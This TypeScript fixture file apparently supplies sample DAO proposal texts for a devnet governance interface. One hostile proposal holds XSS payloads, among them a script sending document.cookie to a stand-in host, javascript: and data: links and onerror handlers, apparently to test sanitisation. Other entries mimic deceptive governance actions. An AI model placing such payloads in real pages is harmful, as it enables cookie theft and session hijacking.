/** Title, link and description of a devnet proposal. */
export interface ProposalText {
  readonly title: string;
  readonly link: string;
  /** Description in Markdown. */
  readonly text: string;
}

const FORUM_URL = 'https://forum.example.org/t/';

const DOCUMENTED_PROPOSAL = `## Why

Answers are spread over three chats. A page that is *kept* costs less than answering.

1. One page for each contract, written from its ABI
2. A walk through a swap, message by message
3. Every exit code with its reason

\`\`\`ts
const price = await pool.call('expectedExchange', { amount, spent });
\`\`\`

> Whoever writes it keeps it for a year.

| part      | hours | USDT  |
| --------- | ----- | ----- |
| contracts | 40    | 1 000 |
| walks     | 20    | 500   |

Half is paid now, half when the [outline](${FORUM_URL}docs-outline) is done.`;

const KOREAN_PROPOSAL = `## 제안 배경

한국어 사용자는 전체 거래량의 상당 부분을 차지하지만 문서는 영어로만 제공됩니다.

### 범위

1. **거버넌스 안내서** — 잠금, 투표, 제안 작성 방법
2. *게이지와 부스트* 계산 방법과 예제
3. 오류 코드와 해결 방법

> 모든 번역은 두 명의 검수자가 확인합니다.

계산식은 \`부스트 = 1 + (최대 − 1) × 잠금 기간 ÷ 최대 기간\` 을 따릅니다.

자세한 내용은 [포럼 글](${FORUM_URL}korean-docs)을 참고해 주세요.`;

const HOSTILE_PROPOSAL = `# Refund of 10 USDT <script>alert('title')</script>

<script>fetch('https://evil.example/' + document.cookie)</script>
<img src="x" onerror="alert(1)">
<iframe src="https://evil.example/wallet"></iframe>
<a href="javascript:alert(2)" onclick="alert(3)">Connect your wallet again</a>
<style>body { display: none }</style>

[Read the report](javascript:alert(document.domain)), or [here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==),
or [with a title](https://evil.example "onmouseover=alert(4)"), or <https://junction.example@evil.example/>.

![a picture that counts readers](https://evil.example/pixel.png)
![](javascript:alert(5))

[reference][bad] &lt;b&gt;already escaped&lt;/b&gt; \u202Edesrever si siht

[bad]: vbscript:msgbox(6)

${'> '.repeat(40)}deep

**Not closed, _and nested [never](`;

/** Texts of the planned proposals by their key. */
export const PROPOSAL_TEXTS = {
  quorum: {
    title: 'Lower the quorum to 80 000 ve',
    link: `${FORUM_URL}quorum`,
    text: `## What changes

The quorum goes from **100 000** to **80 000** ve. Threshold and periods stay.

- Two of five proposals elsewhere fail for want of voters
- A failed vote costs its proposer ten days

The action is \`updateQuorumVotes(80000000000000)\`, sent by the DAO to itself.`,
  },
  withdrawn: {
    title: 'Buy back tokens from early holders',
    link: '',
    text: 'Pays 90 000 JCT for services **to be named later**.',
  },
  grant: {
    title: 'Reward for the report on limit orders',
    link: `${FORUM_URL}order-report`,
    text: `A maker found that an order could be filled a unit below its price, and told us first.

- 4 500 USDT, as the table of rewards says for *medium*
- 2 000 JCT on top, because the report came with a test

See the [fix](https://code.example.org/junction/fixes/31).`,
  },
  majority: {
    title: 'Pay liquidity providers from the treasury',
    link: `${FORUM_URL}provider-pay`,
    text: '### Proposal\n\nThree providers share **120 000 JCT** for a year of work.',
  },
  removal: {
    title: 'Remove EMBER/WTYCHO from the candidates',
    link: `${FORUM_URL}ember`,
    text: `The pool trades less in a week than others in an hour, and still takes its share of every epoch.

Votes for it in the running epoch go where votes above the limit go.`,
  },
  expired: {
    title: 'Sponsor a meeting in Lisbon',
    link: '',
    text: 'Room and coffee for forty people: 800 USDT. *Queue and execute it before the meeting!*',
  },
  tie: {
    title: 'Raise the quorum to 130 000 ve',
    link: `${FORUM_URL}quorum-again`,
    text: 'More tokens are locked than when we lowered it.\n\n- now 80 000\n- then 130 000',
  },
  approval: {
    title: 'Approve WTYCHO/JCT as a candidate',
    link: `${FORUM_URL}wtycho-jct`,
    text: `The gauge follows the older farm of the same pool. Its owner pays for the place when the vote goes well: a candidate that nobody may vote for is dropped after four epochs.

1. \`approveGaugeDAO\` for the gauge
2. nothing else`,
  },
  noQuorum: {
    title: 'A small prize for the best chart',
    link: '',
    text: '500 JCT for the **best chart** of the month, chosen by everybody in the chat.',
  },
  forgotten: {
    title: 'Pay for a second node',
    link: `${FORUM_URL}second-node`,
    text: 'A year of a node in another city, **1 200 USDT**, so that the page answers when one is away.',
  },
  executable: {
    title: 'Three months of market making for JCT/USDC',
    link: `${FORUM_URL}market-making`,
    text: `Quotes within \`0.5 %\` for **3 000 USDT**.

- at least 20 hours a day
- ends when the treasury says so`,
  },
  inTimeLock: {
    title: 'Quorum of 90 000 ve',
    link: `${FORUM_URL}quorum-90`,
    text: 'Between the first and the second attempt: `updateQuorumVotes(90000000000000)`.',
  },
  hiddenTransfer: {
    title: 'Housekeeping: confirm all candidates again',
    link: '',
    text: `Routine work after the last upgrade. Confirms the approval of **every candidate**, several times to be safe.

Nothing changes for anybody.`,
  },
  candidate: {
    title: 'New candidate: USDT/JCT',
    link: `${FORUM_URL}usdt-jct`,
    text: `## The pool

The *deepest* pair of JCT with a dollar after USDC.

- fee 0.3 %
- rewards in USDT for another month

[Its gauge](https://example.org/gauges) waits for approval.`,
  },
  newAdmin: {
    title: 'Update the contact address of the DAO',
    link: '',
    text: 'The old mailbox is full. This **only** updates the contact.',
  },
  korean: { title: '한국어 문서 번역 지원', link: `${FORUM_URL}korean-docs`, text: KOREAN_PROPOSAL },
  hostileText: {
    title: '<img src=x onerror=alert(0)> Refund',
    link: 'javascript:alert(document.domain)',
    text: HOSTILE_PROPOSAL,
  },
  pending: { title: 'Pay for documentation', link: `${FORUM_URL}docs`, text: DOCUMENTED_PROPOSAL },
  pendingRemoval: {
    title: 'Remove USDT/USDC/DAI from the candidates',
    link: `${FORUM_URL}stable-gauge`,
    text: 'Stable coins need no rewards to trade at par.\n\n**Against** means that the gauge stays.',
  },
} as const satisfies Record<string, ProposalText>;
